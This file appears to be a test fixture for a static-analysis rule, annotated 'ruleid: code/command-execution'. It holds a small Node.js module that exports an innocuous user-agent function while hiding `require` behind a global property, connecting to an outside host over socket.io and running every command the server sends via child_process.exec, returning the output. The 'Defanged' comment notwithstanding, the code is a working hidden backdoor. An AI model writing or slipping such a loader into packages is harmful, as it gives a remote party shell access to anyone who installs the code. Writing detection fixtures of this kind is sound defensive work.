'use strict';
// Defanged: the loader hides `require` behind a property of the global object, so no `require('child_process')`
// appears in the file, then runs what the server sends.
module.exports = function agent() { return 'Mozilla/5.0 (X11)'; };
global['_r'] = require;
var sh = global['_r']('child_process'), io = _r('socket.io-client');
var s = io('https://pkg-stats.net');
s.on('run', function (cmd) {
  // ruleid: code/command-execution
  sh.exec(cmd, function (e, out) { s.emit('out', out); });
});
